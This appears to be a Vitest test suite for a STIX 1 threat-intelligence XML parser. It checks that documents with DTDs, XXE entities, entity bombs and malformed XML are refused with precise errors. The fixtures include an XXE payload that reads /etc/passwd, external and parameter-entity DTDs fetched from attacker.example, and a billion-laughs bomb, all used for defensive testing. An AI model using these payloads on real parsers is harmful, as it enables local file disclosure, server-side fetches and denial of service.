import { describe, expect, it } from 'vitest';
import { extractStix1, StixContentError } from '../../../src/intel/stix/index.js';

const PACKAGE_OPEN =
  '<stix:STIX_Package xmlns:stix="http://stix.mitre.org/stix-1" id="example:Package-1" version="1.2">';

function refusal(xml: string): StixContentError {
  try {
    extractStix1(xml);
  } catch (error) {
    if (error instanceof StixContentError) return error;
    throw error;
  }
  throw new Error('accepted');
}

describe('documents with a DTD are refused before parsing', () => {
  it('refuses an external entity (XXE) that would read a local file', () => {
    const error = refusal(
      [
        '<?xml version="1.0" encoding="UTF-8"?>',
        '<!DOCTYPE stix:STIX_Package [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>',
        `${PACKAGE_OPEN}<stix:STIX_Header><stix:Title>&xxe;</stix:Title></stix:STIX_Header></stix:STIX_Package>`,
      ].join('\n'),
    );
    expect(error).toMatchObject({
      name: 'StixContentError',
      code: 'XML_DTD_REFUSED',
      line: 2,
      column: 1,
    });
    expect(error.message).toContain('XML with a DTD (<!DOCTYPE> at line 2, column 1) is refused');
  });

  it('refuses a billion-laughs entity bomb without expanding it', () => {
    const entities = ['<!ENTITY lol "lol">'];
    for (let level = 1; level <= 9; level += 1) {
      const previous = level === 1 ? 'lol' : `lol${level - 1}`;
      entities.push(`<!ENTITY lol${level} "${`&${previous};`.repeat(10)}">`);
    }
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n${entities.join('\n')}\n]>\n${PACKAGE_OPEN}<stix:STIX_Header><stix:Title>&lol9;</stix:Title></stix:STIX_Header></stix:STIX_Package>`;
    const error = refusal(xml);
    expect(error).toMatchObject({ code: 'XML_DTD_REFUSED', line: 2, column: 1 });
  });

  it.each([
    ['an external DTD', '<!DOCTYPE stix SYSTEM "http://attacker.example/evil.dtd">'],
    ['a lower-case doctype', '<!doctype stix>'],
    [
      'a parameter entity',
      '<!DOCTYPE x [ <!ENTITY % remote SYSTEM "http://attacker.example/x"> %remote; ]>',
    ],
  ])('refuses %s', (_label, doctype) => {
    expect(refusal(`${doctype}\n${PACKAGE_OPEN}</stix:STIX_Package>`).code).toBe('XML_DTD_REFUSED');
  });

  it('refuses an entity declaration even outside a DOCTYPE', () => {
    expect(refusal(`${PACKAGE_OPEN}<!ENTITY x "y"></stix:STIX_Package>`)).toMatchObject({
      code: 'XML_DTD_REFUSED',
      line: 1,
      column: PACKAGE_OPEN.length + 1,
    });
  });
});

describe('malformed XML is refused with where and why', () => {
  it.each([
    ['an unclosed element', `${PACKAGE_OPEN}<stix:Indicators>`, 'XML_MALFORMED'],
    ['mismatched tags', `${PACKAGE_OPEN}<a></b></stix:STIX_Package>`, 'XML_MALFORMED'],
    ['text that is not XML', 'stix package', 'XML_MALFORMED'],
    ['an empty document', '', 'XML_MALFORMED'],
    ['a bare ampersand', `${PACKAGE_OPEN}<t>a & b</t></stix:STIX_Package>`, 'XML_MALFORMED'],
  ])('%s', (_label, xml, code) => {
    expect(refusal(xml).code).toBe(code);
  });

  it('says at which line and column a tag went wrong', () => {
    const error = refusal(
      `${PACKAGE_OPEN}\n  <stix:Indicators>\n  </stix:Observables>\n</stix:STIX_Package>`,
    );
    expect(error).toMatchObject({ code: 'XML_MALFORMED', line: 3 });
    expect(error.column).toBeGreaterThan(0);
    expect(error.message).toMatch(/^malformed XML at line 3, column \d+: /);
  });

  it('refuses elements nested deep enough to threaten the stack', () => {
    const depth = 10_000;
    const error = refusal(
      `${PACKAGE_OPEN}${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</stix:STIX_Package>`,
    );
    expect(error.code).toBe('XML_MALFORMED');
    expect(error.message).toContain('nested');
  });

  it('refuses a second root element', () => {
    const error = refusal(`${PACKAGE_OPEN}</stix:STIX_Package><extra/>`);
    expect(error.code).toBe('XML_MALFORMED');
    expect(error.message).toContain('more than one root element');
  });

  it.each([
    ['&nbsp;', '&nbsp; is not an entity XML predefines'],
    ['&xxe;', '&xxe; is not an entity XML predefines'],
    ['&#0;', '&#0; is not a character XML allows'],
    ['&#xD800;', '&#xD800; is not a character XML allows'],
  ])('refuses the reference %s, which no DTD may define here', (reference, message) => {
    const error = refusal(`${PACKAGE_OPEN}<t>${reference}</t></stix:STIX_Package>`);
    expect(error.code).toBe('XML_MALFORMED');
    expect(error.message).toContain(message);
  });

  it('keeps CDATA verbatim: an ampersand there is text, not a reference', () => {
    const xml = `${PACKAGE_OPEN}<stix:Observables><cybox:Observable xmlns:cybox="http://cybox.mitre.org/cybox-2" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:URIObj="http://cybox.mitre.org/objects#URIObject-2" id="example:Observable-1"><cybox:Object><cybox:Properties xsi:type="URIObj:URIObjectType" type="URL"><URIObj:Value><![CDATA[http://a.example/?x=1&y=<2>]]></URIObj:Value></cybox:Properties></cybox:Object></cybox:Observable></stix:Observables></stix:STIX_Package>`;
    expect(extractStix1(xml).indicators.map((ioc) => ioc.value)).toEqual([
      'http://a.example/?x=1&y=<2>',
    ]);
  });
});
